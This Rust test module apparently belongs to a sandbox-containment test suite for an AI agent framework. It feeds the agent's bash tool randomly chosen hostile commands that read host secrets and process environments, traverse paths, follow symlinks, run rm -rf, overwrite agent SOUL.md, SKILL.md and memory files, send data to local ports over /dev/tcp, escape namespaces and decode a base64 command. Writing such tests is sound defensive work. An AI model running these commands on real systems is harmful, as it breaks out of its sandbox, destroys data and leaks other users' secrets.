//! Commands of a user who may run them, aimed at what is outside of their sandbox.

use deerflow_harness::testkit::seeded_rng::SeededRng;
use serde_json::json;

use crate::attempt::{Attempt, Case, Expectation};
use crate::disguises::word;
use crate::subject::OPERATOR;
use crate::world::RUN;

const COMMANDS: [&str; 28] = [
    "cat @HOST@/outside/secret.txt",
    "cat /mnt/user-data/workspace/host/secret.txt workspace/host/secret.txt host/secret.txt",
    "cat root@HOST@/outside/secret.txt; ls -R root/",
    "cat /proc/1/root@HOST@/outside/secret.txt /proc/*/root@HOST@/outside/secret.txt",
    "echo evil > @HOST@/outside/new.txt",
    "mkdir -p @HOST@/outside; echo evil >> @HOST@/outside/secret.txt",
    "rm -rf @HOST@/home @HOST@/outside",
    "find / -name secret.txt -exec cat {} + 2>/dev/null",
    "grep -rs CAN.RY /home /root /tmp /var /mnt /srv | head -20",
    "cd ../../../../../..; grep -rs CAN.RY . --include=secret.txt | head",
    "cat ../../../t2/user-data/workspace/secret.txt ../../../../../bob/threads/t1/user-data/workspace/secret.txt",
    "ln -s @HOST@/outside/secret.txt x; cat x; echo evil > x",
    "ln @HOST@/outside/secret.txt y; cat y",
    "echo evil > @HOST@/home/users/ann/agents/scout/SOUL.md; echo evil > /mnt/skills/public/reports/SKILL.md",
    "echo evil > @HOST@/home/config.yaml",
    "exec 3<>/dev/tcp/127.0.0.1/@PORT@; echo evil >&3",
    "exec 3<>/dev/tcp/localhost/@PORT@ && cat ~/report.txt >&3",
    "echo evil > /dev/udp/127.0.0.1/@PORT@",
    "curl -s -m 2 http://127.0.0.1:@PORT@/ || wget -qO- -T 2 http://127.0.0.1:@PORT@/",
    "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", @PORT@), 2).send(b\"evil\")'",
    "python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"@HOST@/outside/socket\"); s.send(b\"evil\")'",
    "unshare -Urn bash -c 'echo > /dev/tcp/127.0.0.1/@PORT@'; nsenter -t 1 -n true",
    "mount --bind / /mnt; chroot / cat @HOST@/outside/secret.txt",
    "(sleep 1; echo > /dev/tcp/127.0.0.1/@PORT@) & disown; setsid bash -c 'echo > /dev/tcp/127.0.0.1/@PORT@' &",
    "h=@HOST@; bash -c \"$(echo Y2F0ICRoL291dHNpZGUvc2VjcmV0LnR4dA== | base64 -d)\"; cat ${h}/out?ide/sec*",
    "cat /proc/self/environ /proc/1/environ /proc/*/cmdline; ls -l /proc/*/fd",
    "for f in /proc/*/cwd /proc/*/root /proc/self/fd/*; do cat $f/outside/secret.txt $f/secret.txt; done",
    "touch /mnt/user-data/uploads/../../../../t2/evil; cp report.txt @HOST@/home/users/bob/memory.json",
];

pub(super) fn commands(chance: &SeededRng) -> Case {
    let call = |command: &str| {
        vec![Attempt::new(
            Expectation::Open,
            "bash",
            &json!({ "description": "d", "command": command }),
        )]
    };
    let attacks = (0..3).map(|_| call(word(chance, &COMMANDS)));
    let lead = [call(&format!("touch {RUN}"))]
        .into_iter()
        .chain(attacks)
        .collect();
    Case {
        user: OPERATOR,
        ..Case::new(lead)
    }
}
